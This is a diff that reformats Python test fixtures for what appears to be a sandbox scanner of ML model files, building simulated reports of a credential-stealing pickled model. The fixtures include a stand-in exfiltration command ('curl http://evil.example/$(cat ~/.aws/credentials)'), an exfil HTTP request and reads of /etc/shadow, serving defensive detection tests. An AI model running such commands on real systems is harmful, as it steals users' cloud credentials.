@@ -83,10 +83,45 @@ def exported(path: str = "cleared") -> Report:
 def malicious(path: str = "models/stealer") -> Report:
     """A model that runs a program, looks for secrets and sends them home."""
     events = [
-        Event(0.61, "detonate", 2, "python", "openat", {"path": "/home/user/.aws/credentials"}, "allowed"),
-        Event(0.62, "detonate", 2, "python", "openat", {"path": "/etc/shadow"}, "denied", "EACCES", count=3),
-        Event(0.70, "detonate", 2, "python", "execve", {"path": "/bin/sh", "argv": ["sh", "-c", "id"]}, "denied", "EPERM"),
-        Event(0.81, "detonate", 2, "python", "connect", {"address": "192.0.2.7", "port": 443}, "redirected"),
+        Event(
+            0.61,
+            "detonate",
+            2,
+            "python",
+            "openat",
+            {"path": "/home/user/.aws/credentials"},
+            "allowed",
+        ),
+        Event(
+            0.62,
+            "detonate",
+            2,
+            "python",
+            "openat",
+            {"path": "/etc/shadow"},
+            "denied",
+            "EACCES",
+            count=3,
+        ),
+        Event(
+            0.70,
+            "detonate",
+            2,
+            "python",
+            "execve",
+            {"path": "/bin/sh", "argv": ["sh", "-c", "id"]},
+            "denied",
+            "EPERM",
+        ),
+        Event(
+            0.81,
+            "detonate",
+            2,
+            "python",
+            "connect",
+            {"address": "192.0.2.7", "port": 443},
+            "redirected",
+        ),
         Event(0.90, "detonate", 2, "python", "ptrace", {"request": 16}, "denied", "EPERM"),
     ]
     return Report(
@@ -105,15 +140,52 @@ def malicious(path: str = "models/stealer") -> Report:
         ),
         egress=[
             Egress(0.79, "dns", "192.0.2.7", 53, "evil.example", "", 31),
-            Egress(0.81, "tcp", "192.0.2.7", 443, "evil.example", "GET /exfil?k=AKIA HTTP/1.1\r\nHost: evil.example\r\n", 48),
+            Egress(
+                0.81,
+                "tcp",
+                "192.0.2.7",
+                443,
+                "evil.example",
+                "GET /exfil?k=AKIA HTTP/1.1\r\nHost: evil.example\r\n",
+                48,
+            ),
         ],
-        processes=[Process(0.70, 2, 1, ["sh", "-c", "curl http://evil.example/$(cat ~/.aws/credentials)"])],
+        processes=[
+            Process(0.70, 2, 1, ["sh", "-c", "curl http://evil.example/$(cat ~/.aws/credentials)"])
+        ],
         findings=[
             Finding("SL401", "medium", "A forbidden system call", "ptrace", "", [4]),
-            Finding("SL501", "low", "A pickle names a callable outside the allowlist", "names os.system", "pytorch_model.bin: data.pkl, byte 17"),
-            Finding("SL101", "critical", "A program was executed", "sh -c 'curl …' was refused", "pytorch_model.bin", [2]),
-            Finding("SL201", "high", "Egress was attempted", "48 bytes to evil.example (192.0.2.7:443)", "pytorch_model.bin", [3]),
-            Finding("SL301", "critical", "A decoy secret was read", "/home/user/.aws/credentials", "", [0]),
+            Finding(
+                "SL501",
+                "low",
+                "A pickle names a callable outside the allowlist",
+                "names os.system",
+                "pytorch_model.bin: data.pkl, byte 17",
+            ),
+            Finding(
+                "SL101",
+                "critical",
+                "A program was executed",
+                "sh -c 'curl …' was refused",
+                "pytorch_model.bin",
+                [2],
+            ),
+            Finding(
+                "SL201",
+                "high",
+                "Egress was attempted",
+                "48 bytes to evil.example (192.0.2.7:443)",
+                "pytorch_model.bin",
+                [3],
+            ),
+            Finding(
+                "SL301",
+                "critical",
+                "A decoy secret was read",
+                "/home/user/.aws/credentials",
+                "",
+                [0],
+            ),
         ],
     )
 
@@ -132,13 +204,32 @@ def hostile() -> Report:
             complete=False,
             dropped=7,
             syscalls={text: SyscallCount(1, 2)},
-            events=[Event(0.1, text, 2, text, text, {"path": text, text: [text, {"x": text}]}, "denied", text)],
+            events=[
+                Event(
+                    0.1,
+                    text,
+                    2,
+                    text,
+                    text,
+                    {"path": text, text: [text, {"x": text}]},
+                    "denied",
+                    text,
+                )
+            ],
         ),
-        egress=[Egress(0.1, text, text, None, text, text, 3), Egress(0.1, "dns", text, 53, text, text, 3)],
+        egress=[
+            Egress(0.1, text, text, None, text, text, 3),
+            Egress(0.1, "dns", text, 53, text, text, 3),
+        ],
         processes=[Process(0.2, 2, 1, [text, *HOSTILE])],
-        findings=[Finding(text, "high", text, text, text, [0, 99]), *(Finding("SL501", "medium", t, t, t) for t in HOSTILE)],
+        findings=[
+            Finding(text, "high", text, text, text, [0, 99]),
+            *(Finding("SL501", "medium", t, t, t) for t in HOSTILE),
+        ],
         tensors=Tensors(1, 1, 4, {text: 1}, [[text, text]]),
-        export=Export(text, [ExportedFile(text, 1, text), ExportedFile(f"{text}.safetensors", 1, text)]),
+        export=Export(
+            text, [ExportedFile(text, 1, text), ExportedFile(f"{text}.safetensors", 1, text)]
+        ),
         notes=[text, *HOSTILE],
     )
 
